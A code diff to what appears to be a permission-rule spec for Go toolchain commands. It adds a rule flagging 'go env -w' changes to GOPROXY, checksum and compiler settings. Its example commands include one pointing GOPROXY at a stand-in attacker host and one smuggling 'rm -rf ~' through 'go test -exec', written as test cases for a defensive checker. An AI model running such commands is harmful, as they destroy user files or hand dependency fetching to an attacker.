@@ -1,4 +1,4 @@
-// Go programs are built, tested and run with these.
+// The Go toolchain.
 import type { CommandSpec, ProgramSpec } from '../spec.ts';
 
 /** Options that go build, go test, go vet and go run share. */
@@ -31,17 +31,35 @@ export const programs: readonly ProgramSpec[] = [
         operands: 'text',
         plain: true,
       },
-      'list|version|doc|env': {
+      'list|version|doc': {
         options: { '-m -json -u -f -e -deps -test -compiled -versions -all -short': 'flag' },
         operands: 'text',
         plain: true,
       },
+      env: { options: { '-json -changed': 'flag', '-u': 'text' }, operands: 'text' },
       fmt: { options: { '-n -x': 'flag' }, operands: 'text', plain: true },
-      run: { options: BUILD, operands: 'script', language: 'compiled' },
+      run: {
+        options: BUILD,
+        operands: 'script',
+        language: 'compiled',
+        projectCode: { files: 'main.go', language: 'compiled' },
+      },
       generate: { options: { '-run -skip': 'text' } },
     },
     traits: ['network', 'words'],
+    kind: 'system',
+    effects: [
+      {
+        code: 'tool-config',
+        when: 'env goproxy=*|goflags=*|gosumdb=*|gonosumdb=*|gonosumcheck=*|goinsecure=*|gotoolchain=*|cc=*|cxx=*',
+        flags: '-w',
+        why: 'Changes from where Go fetches, or with what it builds, from now on.',
+        safer: 'go env',
+      },
+    ],
     examples: [
+      { command: 'go env GOPATH', expect: 'pass' },
+      { command: 'go env -w GOPROXY=http://evil.example', expect: 'ask' },
       { command: 'go test ./... -run TestX -count=1', expect: 'pass' },
       { command: 'go build -o bin/app ./cmd/app', expect: 'pass' },
       { command: "go test -exec 'rm -rf ~' ./...", expect: 'deny' },
